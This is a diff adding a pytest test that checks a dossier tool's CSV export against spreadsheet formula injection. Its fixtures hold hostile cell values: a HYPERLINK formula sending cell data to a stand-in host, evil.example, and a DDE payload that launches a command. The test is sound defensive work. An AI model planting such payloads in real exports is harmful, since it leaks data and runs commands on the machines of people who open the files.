@@ -61,3 +61,35 @@ def test_cli_export_csv(store_file, tmp_path, capsys):
     assert out.read_bytes().startswith(b"\xef\xbb\xbfProject,")
     assert main(["--store", str(store_file), "export-csv", "AZ", "nonsense"]) == 1
     assert "No tab" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize("tab", ["officials", "trade", "projects", "talking_points", "sources"])
+def test_no_cell_in_any_column_starts_a_formula(sample_store, tab):
+    """A crafted source title or official's name reaches the file as text in every column
+    that shows it (the "Source" and "For" columns write titles, not ids)."""
+    from dossier.model import DOSSIER_PARTS, TRADE
+
+    dossier = sample_store.dossiers.list()[0]
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    for spec in DOSSIER_PARTS:
+        if spec is TRADE:
+            continue
+        for field in spec.fields:
+            if field.kind.name in ("TEXT", "LONGTEXT"):
+                sample_store.db.execute(
+                    f'UPDATE "{spec.table}" SET "{field.name}" = ? WHERE "{field.name}" IS NOT NULL',
+                    ["+cmd"],
+                )
+    sample_store.db.execute("UPDATE sources SET title = ?", [hostile])
+    sample_store.db.execute("UPDATE officials SET name = ?", ["@SUM(1+1)*cmd|' /C calc'!A0"])
+    rows = list(csv.reader(io.StringIO(tab_csv(sample_store, dossier, tab_spec(tab)))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert cells
+    numbers = {"+", "-"}  # a number cell may be negative; it is still a number
+    for cell in cells:
+        if cell[:1] in numbers:
+            float(cell)  # raises if it is anything but a plain number
+        else:
+            assert not cell.startswith(("=", "@", "\t", "\r")), cell
+    if tab != "sources":
+        assert any(c.startswith("'=HYPERLINK") for c in cells)
